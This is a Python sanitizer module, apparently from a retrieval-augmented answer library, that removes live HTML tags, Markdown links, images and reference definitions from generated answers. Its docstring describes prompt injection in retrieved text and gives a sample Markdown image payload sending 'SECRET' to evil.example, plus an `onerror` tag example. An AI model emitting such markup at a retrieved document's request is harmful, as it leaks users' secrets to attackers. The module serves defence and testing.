"""Markup in answers: what a client that renders HTML or Markdown would make live.

An answer is copied from retrieved text, and retrieved text may be hostile: a document can ask
the model to write `<img src=x onerror=...>`, a `javascript:` link, or a Markdown image whose URL
carries a secret to an attacker's server (fetched with no click by any chat client that renders
Markdown). ragtune's own page puts answers on the page as text, never as HTML; other clients of
the OpenAI-compatible endpoint render Markdown. So every answer leaves the library inert:
HTML tags and comments are removed, Markdown links and images keep their text and lose their
URL, and link reference definitions are dropped. Bare URLs stay (they are text; a client that
turns them into links needs a click, and the URL is the document's own).

    >>> neutralize_markup('Paris [1] ![x](https://evil.example/?q=SECRET) <b>bold</b>')
    'Paris [1] x bold'
"""

from __future__ import annotations

import re

_IMAGE_OR_LINK = re.compile(r"!?\[([^\[\]\n]*)\]\((?:[^()\n]|\([^()\n]*\))*\)")
_REFERENCE_DEFINITION = re.compile(r"^[ \t]*\[[^\]\n]+\]:[ \t]*\S+.*$", re.MULTILINE)
_COMMENT = re.compile(r"<!--.*?(?:-->|$)", re.DOTALL)
_TAG = re.compile(r"</?[A-Za-z][^<>]*>")
_CITATION_TEXT = re.compile(r"^\s*\d+(?:\s*,\s*\d+)*\s*$")

LIVE_MARKUP = re.compile(
    r"</?[A-Za-z][^<>]*>"  # an HTML tag (script, img, iframe, a, svg, ...)
    r"|!?\[[^\]\n]*\]\(\s*[^)\s]"  # a Markdown link or image with a target
    r"|^[ \t]*\[[^\]\n]+\]:[ \t]*\S+"  # a Markdown link reference definition
    r"|<!--",
    re.IGNORECASE | re.MULTILINE,
)
"""What a client rendering HTML or Markdown would make live (the red team's criterion)."""


def has_live_markup(text: str) -> bool:
    """Whether `text` holds markup an HTML or Markdown renderer would make live."""
    return bool(LIVE_MARKUP.search(text))


def neutralize_markup(text: str) -> str:
    """`text` with its markup made inert (see the module docstring). A Markdown link whose text
    is a citation number (`[2](url)`) keeps the citation marker `[2]`."""

    def link(match: re.Match[str]) -> str:
        inner = match.group(1)
        return f"[{inner.strip()}]" if _CITATION_TEXT.match(inner) else inner

    previous = None
    while previous != text:  # nested or re-formed markup (`<scr<b>ipt>`) goes in later rounds
        previous = text
        text = _IMAGE_OR_LINK.sub(link, text)
        text = _REFERENCE_DEFINITION.sub("", text)
        text = _COMMENT.sub("", text)
        text = _TAG.sub("", text)
    return re.sub(r"[ \t]{2,}", " ", text).strip()
